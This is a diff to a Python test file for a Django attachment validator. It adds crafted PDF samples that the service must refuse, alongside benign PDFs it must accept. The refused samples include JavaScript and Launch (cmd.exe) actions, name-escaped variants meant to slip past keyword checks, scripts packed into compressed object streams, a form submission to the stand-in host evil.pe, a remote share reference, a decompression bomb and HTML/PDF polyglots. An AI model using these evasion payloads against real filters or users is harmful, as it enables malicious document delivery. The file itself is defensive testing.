@@ -9,11 +9,13 @@ from pathlib import Path
 from resource import RUSAGE_SELF, getrusage
 from typing import Any
 
+import pikepdf
 import pytest
 from django.urls import get_resolver
 from PIL import Image
 
 from apps.attachments.services.content import read_content
+from apps.attachments.services.documents import read_document
 from common.errors import Invalid
 from common.pictures import open_picture, renditions
 from tests.factories.attachments import encoded, pdf_bytes
@@ -198,14 +200,49 @@ def test_see_through_parts_stay_see_through_in_a_wide_profile() -> None:
     assert picture.image.getpixel((0, 0))[3] == 77  # type: ignore[index]
 
 
+def packed_pdf(action: bytes) -> bytes:
+    """A page whose objects are in a compressed stream, as tools have written them since 2003."""
+    objects = [b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>"]
+    objects += [b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>", action]
+    starts = [sum(len(one) + 1 for one in objects[:place]) for place in range(len(objects))]
+    head = b"".join(b"%d %d " % (number + 1, start) for number, start in enumerate(starts))
+    body = zlib.compress(head + b" ".join(objects))
+    packed = b"5 0 obj<</Type/ObjStm/N 4/First %d/Filter/FlateDecode/Length %d>>stream\n" % (
+        len(head),
+        len(body),
+    )
+    content = b"%PDF-1.5\n" + packed + body + b"\nendstream endobj\n"
+    rows = bytes(7) + b"".join(struct.pack(">BIH", 2, 5, place) for place in range(4))
+    rows += struct.pack(">BIH", 1, len(b"%PDF-1.5\n"), 0) + struct.pack(">BIH", 1, len(content), 0)
+    table = b"6 0 obj<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d>>stream\n" % len(rows)
+    return content + table + rows + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % len(content)
+
+
+def locked_pdf(user: str = "secret") -> bytes:
+    written = BytesIO()
+    with pikepdf.open(BytesIO(pdf_bytes())) as document:
+        document.save(written, encryption=pikepdf.Encryption(owner="owner", user=user))
+    return written.getvalue()
+
+
 DOCUMENTS_REFUSED: dict[str, Callable[[], bytes]] = {
     "pdf that is cut off": lambda: pdf_bytes()[:60],
     "pdf with a page behind it": lambda: pdf_bytes() + b"<html>" + SCRIPT,
     "pdf that is a zip": lambda: pdf_bytes() + b"PK\x03\x04" + b"\0" * 40,
     "pdf behind a page": lambda: b"<html>" + SCRIPT + pdf_bytes(),
-    "pdf with a script": lambda: pdf_bytes(b"3 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n"),
-    "pdf that starts a program": lambda: pdf_bytes(b"3 0 obj<</S/Launch/F(cmd.exe)>>endobj\n"),
-    "pdf with a file in it": lambda: pdf_bytes(b"3 0 obj<</Type/EmbeddedFile>>endobj\n"),
+    "pdf with a script": lambda: pdf_bytes(b"4 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n"),
+    "pdf that starts a program": lambda: pdf_bytes(b"4 0 obj<</S/Launch/F(cmd.exe)>>endobj\n"),
+    "pdf with a file in it": lambda: pdf_bytes(b"4 0 obj<</Type/EmbeddedFile>>endobj\n"),
+    "pdf with an escaped script": lambda: pdf_bytes(b"4 0 obj<</S/J#61vaScript/JS(x)>>endobj\n"),
+    "pdf with an escaped program": lambda: pdf_bytes(b"4 0 obj<</S/L#61unch/F(cmd.exe)>>endobj\n"),
+    "pdf that sends a form": lambda: pdf_bytes(b"4 0 obj<</S/SubmitForm/F(https://evil.pe)>>endobj\n"),
+    "pdf that opens a share": lambda: pdf_bytes(b"4 0 obj<</S/GoToR/F(\\\\\\\\evil\\\\x)>>endobj\n"),
+    "pdf with a packed script": lambda: packed_pdf(b"<</S/JavaScript/JS(x)>>"),
+    "pdf with a packed, escaped script": lambda: packed_pdf(b"<</S/Java#53cript/JS(x)>>"),
+    "pdf that unpacks into much": lambda: packed_pdf(b"[" + b"1 " * (4 * 2**20) + b"]"),
+    "pdf that needs a password": locked_pdf,
+    "page in the clothes of a pdf": lambda: b"%PDF-1.4<html>" + SCRIPT + b"startxref 0 %%EOF",
+    "page in the clothes of a pdf, with a line": lambda: b"%PDF-1.4\n<html>" + SCRIPT + b"startxref 0 %%EOF",
     "pdf of no version": lambda: pdf_bytes().replace(b"%PDF-1.7", b"%PDF-abc"),
     "pdf of ten megabytes and more": lambda: pdf_bytes(b"%" * (10 * 2**20) + b"\n"),
     "word document": lambda: b"PK\x03\x04[Content_Types].xml",
@@ -216,3 +253,19 @@ DOCUMENTS_REFUSED: dict[str, Callable[[], bytes]] = {
 def test_document_refused(name: str) -> None:
     with pytest.raises(Invalid):
         read_content(BytesIO(DOCUMENTS_REFUSED[name]()))
+
+
+DOCUMENTS_TAKEN: dict[str, Callable[[], bytes]] = {
+    "of nested lists": lambda: pdf_bytes(b"4 0 obj" + b"[" * 2**20 + b"endobj\n"),
+    "plain": pdf_bytes,
+    "packed": lambda: packed_pdf(b"<</S/URI/URI(https://barro.pe/JavaScript)>>"),
+    "closed to changes alone": lambda: locked_pdf(user=""),
+    "with a text about scripts": lambda: pdf_bytes(b"4 0 obj<</Title(On \\(/Java\\) Script)>>endobj\n"),
+}
+
+
+@pytest.mark.parametrize("name", sorted(DOCUMENTS_TAKEN))
+def test_document_taken_as_it_came(name: str) -> None:
+    content = DOCUMENTS_TAKEN[name]()
+
+    assert read_document(BytesIO(content)) == content
